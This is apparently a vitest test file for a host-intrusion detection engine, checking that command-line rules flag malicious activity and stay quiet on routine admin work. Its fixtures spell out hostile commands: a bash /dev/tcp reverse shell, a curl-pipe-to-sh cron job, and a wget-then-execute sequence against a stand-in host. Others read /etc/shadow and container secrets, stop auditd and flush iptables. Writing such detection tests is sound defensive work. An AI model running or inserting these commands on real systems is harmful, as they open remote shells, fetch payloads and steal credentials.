import type { Detection } from '@suite/event';
import { describe, expect, it } from 'vitest';
import { createEngine, DEFAULT_SETTINGS } from '../src/index.ts';
import { detect, Lines, rulesOf } from './lines.ts';

const ran = (lines: Lines) => detect(lines).filter(({ rule }) => rule.startsWith('command-'));
const SHELL = 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1';

describe('commands', () => {
  it('is critical about a shell for another machine, with who, where and what to do', () => {
    const [found] = ran(new Lines().shell(SHELL));
    expect(found).toMatchObject({
      rule: 'command-reverse-shell',
      level: 'critical',
      entities: { 'user.name': 'pi', 'host.name': 'node1' },
    });
    expect(found!.techniques).toContain('T1059.004');
    expect(found!.reason).toMatch(/^pi on node1: .*Command: bash -i .*Next: /s);
  });

  it('tells a command once that history, sudo and cron repeat', () => {
    const sudo = {
      'event.action': 'sudo_command',
      'event.outcome': 'success' as const,
      'user.name': 'root',
      'source.user.name': 'pi',
      'process.command_line': '/usr/bin/cat /etc/shadow',
    };
    expect(
      ran(new Lines().shell('sudo cat /etc/shadow').add(sudo).shell('sudo cat /etc/shadow')),
    ).toHaveLength(1);
    const cron = {
      'event.action': 'cron_command',
      'user.name': 'root',
      'process.command_line': 'curl -s http://203.0.113.9/a | sh',
    };
    const lines = new Lines();
    for (let minute = 0; minute < 100; minute++) lines.wait(60).add(cron);
    expect(ran(lines)).toHaveLength(1);
  });

  it('names the account that typed, not the one that sudo became', () => {
    const [found] = ran(
      new Lines().add({
        'event.action': 'sudo_command',
        'user.name': 'root',
        'source.user.name': 'jo',
        'process.command_line': '/usr/bin/systemctl stop auditd',
      }),
    );
    expect(found).toMatchObject({ rule: 'command-defence-evasion', entities: { 'user.name': 'jo' } });
  });

  it('leaves tampering with the history to the rule that is made for it', () => {
    expect(rulesOf(detect(new Lines().shell('history -c').shell('rm ~/.bash_history')))).toEqual([
      'history-tampering',
    ]);
  });

  it('looks into what is run in a container', () => {
    const [found] = ran(
      new Lines().add({
        'event.action': 'container_exec',
        'container.name': 'web',
        'process.command_line': 'cat /run/secrets/db_password',
      }),
    );
    expect(found).toMatchObject({
      rule: 'command-credential-access',
      entities: { 'container.name': 'web', 'host.name': 'node1' },
    });
  });

  it('hears a burst of questions once', () => {
    const lines = new Lines();
    for (const command of [
      'whoami',
      'id',
      'uname -a',
      'cat /etc/passwd',
      'ss -tlnp',
      'ps aux',
      'w',
      'last',
      'arp -a',
    ])
      lines.wait(4).shell(command);
    expect(rulesOf(ran(lines))).toEqual(['command-discovery-burst']);
    expect(ran(lines)).toHaveLength(1);
  });

  it('says no secret and no control character', () => {
    const [found] = ran(new Lines().shell("sshpass -p 'hunter2' ssh \u001b[2Jnode2\u202e"));
    expect(found!.reason).not.toMatch(/hunter2|[\u0000-\u001f\u202e]/);
  });

  it('makes the same detections after a restart in the middle', () => {
    const lines = new Lines();
    for (const command of [
      'wget http://203.0.113.9/x86',
      'whoami',
      'id',
      'uname -a',
      'chmod +x x86',
      './x86',
      'cat /etc/passwd',
      'ps aux',
      'ss -tlnp',
      SHELL,
    ])
      lines.wait(3).shell(command);
    const whole = detect(lines);
    const halves: Detection[] = [];
    let engine = createEngine(DEFAULT_SETTINGS);
    for (const [at, record] of lines.all.entries()) {
      if (at === 5) {
        const state = JSON.parse(JSON.stringify(engine.snapshot()));
        engine = createEngine(DEFAULT_SETTINGS);
        expect(engine.restore(state)).toBe(true);
      }
      engine.observe(record, (detection) => halves.push(detection));
    }
    expect(halves).toEqual(whole);
    expect(rulesOf(whole)).toContain('command-download-and-run');
  });

  it('tells of what a service runs only where it is sure', () => {
    const started = (command: string, more = {}) =>
      new Lines().add({
        'event.action': 'process_started',
        'user.name': 'root',
        'process.command_line': command,
        ...more,
      });
    expect(ran(started('/usr/sbin/iptables -F INPUT'))).toEqual([]);
    expect(
      ran(started('/usr/sbin/iptables -F INPUT', { 'source.user.name': 'pi', 'process.tty': 'pts0' })),
    ).toHaveLength(1);
    expect(ran(started(`bash -c "${SHELL}"`))).toHaveLength(1);
  });

  it('is silent about a day of ordinary work', () => {
    const lines = new Lines();
    for (const command of [
      ...[
        'ls -la',
        'cd /opt/stacks',
        'vim docker-compose.yml',
        'docker compose up -d',
        'docker ps',
        'df -h',
        'free -h',
      ],
      ...[
        'journalctl -u docker --since today',
        'sudo apt update && sudo apt upgrade -y',
        'ssh node2 uptime',
        'git pull',
      ],
      ...[
        'sudo systemctl restart docker',
        'curl -s localhost:9090/-/healthy',
        'htop',
        'sudo gluster volume heal gv0 info',
      ],
    ])
      lines.wait(20).shell(command);
    expect(ran(lines)).toEqual([]);
  });
});
